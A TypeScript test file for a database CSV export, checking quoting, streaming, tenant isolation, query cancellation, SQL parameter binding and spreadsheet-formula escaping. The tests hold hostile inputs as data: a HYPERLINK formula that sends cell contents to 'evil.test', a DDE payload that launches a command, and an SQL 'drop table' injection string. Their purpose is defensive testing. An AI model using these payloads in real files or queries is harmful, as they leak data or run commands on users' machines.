import { text } from 'node:stream/consumers';
import { expect, test } from 'vitest';
import { testApp } from '../../test/app.ts';
import { queryAsOwner } from '../../test/from-address.ts';
import { formatCsvHeader, formatCsvLine } from './csv-line.ts';
import { escapeFormulaSql } from './spreadsheet-cell.ts';
import { type Sql, statement } from './sql.ts';

const copy = async (query: Sql, head = '') => (await testApp()).ports.database.streamCsv(100, query, head);
const copied = async (query: Sql, head = '') => text(await copy(query, head));

test('writes rows as CSV lines with quoted cells after the header', async () => {
  const query = statement(`select g, 'a "b", c', null from generate_series(1, $1::int) g`, [2]);
  expect(await copied(query, 'n,t\n')).toBe('n,t\n"1","a ""b"", c",\n"2","a ""b"", c",\n');
});

test('streams more rows than fit in a buffer, in order', async () => {
  const lines = (await copied(statement('select g from generate_series(1, $1::int) g', [200_000]))).split(
    '\n',
  );
  expect([lines.length, lines[0], lines[199_999]]).toEqual([200_001, '"1"', '"200000"']);
});

test('streams rows of any length, including rows longer than a buffer', async () => {
  const lengths = "repeat('ä', (g * 7919) % 90000)";
  const rows = (await copied(statement(`select ${lengths} from generate_series(1, $1::int) g`, [40]))).split(
    '\n',
  );
  expect(rows.slice(0, 40).map((row) => row.length - 2)).toEqual(
    Array.from({ length: 40 }, (_, at) => ((at + 1) * 7919) % 90_000),
  );
  expect(rows.join('').replaceAll('"', '')).toMatch(/^ä+$/);
});

test.each([
  ['text', "it's; drop table application --"],
  ['text', '$1 $2 nullif(current_setting($$copy.p1$$))'],
  ['int', 41],
  ['int[]', [3, 1, 2]],
  ['text', null],
])('treats a value of %s (%j) as a value, never as SQL', async (type, value) => {
  const shown = type === 'int[]' ? '"{3,1,2}"' : value === null ? '' : `"${value}"`;
  expect(await copied(statement(`select $1::${type}`, [value]))).toBe(`${shown}\n`);
});

test('rejects a list of texts as a parameter', async () => {
  await expect(copied(statement('select $1::text[]', [["a','b"]]))).rejects.toThrow('whole numbers');
});

const before = [
  '',
  ' ',
  '  ',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '\u2060',
  '\u200e',
  '\u202e',
  '\u2066',
  '\u00ad',
  '\u3000',
  '\u0001',
  '\u0085',
  '\ufeff \u200b\u00a0',
  '\u{e0020}',
];
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹢', '﹣', '﹦', '﹫'];
const formulas = [
  ...before.flatMap((start) => signs.map((sign) => `${start}${sign}1+1`)),
  ...['\t', '\r', '\n', '\r\n'].map((start) => `${start}a`),
  '=HYPERLINK("http://evil.test?a="&A1,"Ana")',
  "=cmd|' /C calc'!A0",
  '=1,2;"3"',
];

test.each([...formulas, "'=1", 'a=1', '\u200ba', 'é-1', '1=1', '', 'Ana', 'شركة', '한국-1'])(
  'security 47: escapes cells that a spreadsheet treats as formulas (%j), in SQL and in TypeScript',
  async (word) => {
    const query = statement(`select ${escapeFormulaSql('t')} from (select $1::text as t) w`, [
      word === '' ? 'x' : word,
    ]);
    const expected = formatCsvLine([word === '' ? 'x' : word]);
    expect(await copied(query)).toBe(expected);
    expect(expected.startsWith(`"'`)).toBe(formulas.includes(word) || word.startsWith("'"));
  },
);

test('marks the header as UTF-8 for spreadsheets', () => {
  expect(formatCsvHeader(['Nº', '=x'])).toBe(`\ufeff"Nº","'=x"\n`);
});

test("security 40: copies only the tenant's rows", async () => {
  const { ports } = await testApp();
  const rows = async (tenant: number) =>
    text(
      await ports.database.streamCsv(tenant, statement('select distinct tenant_id from application', []), ''),
    );
  expect([await rows(100), await rows(210), await rows(0)]).toEqual(['"100"\n', '"210"\n', '']);
});

test('fails the stream when the query fails midway', async () => {
  const query = statement('select 1 / (1000000 - g) from generate_series(1, 1000000) g', []);
  await expect(copied(query)).rejects.toThrow('division by zero');
});

test.each([
  ['writes', 'g from generate_series(1, 1000000000) g'],
  ['has not written yet', 'count(*) from generate_series(1, 100000000000) g'],
])('cancels a query that %s when the reader disconnects', async (_when, work) => {
  const key = 778_001;
  const stream = await copy(
    statement(`select ${work}, (select pg_advisory_xact_lock_shared($1::bigint)) lock`, [key]),
    'head\n',
  );
  await new Promise((resolve) => stream.once('data', resolve));
  const closed = new Promise((resolve) => stream.once('close', resolve));
  stream.destroy();
  await closed;
  // Waits until the copy's transaction is over: nothing else holds the lock.
  await queryAsOwner(`select pg_advisory_lock(${key}), pg_advisory_unlock(${key})`);
  expect(await copied(statement('select 1', []))).toBe('"1"\n');
});

test('serves concurrent readers separately and queues readers beyond the pool size', async () => {
  const sums = [1, 2, 3, 4, 5, 6].map((n) => copied(statement('select $1::int * 2', [n])));
  expect(await Promise.all(sums)).toEqual([2, 4, 6, 8, 10, 12].map((n) => `"${n}"\n`));
});
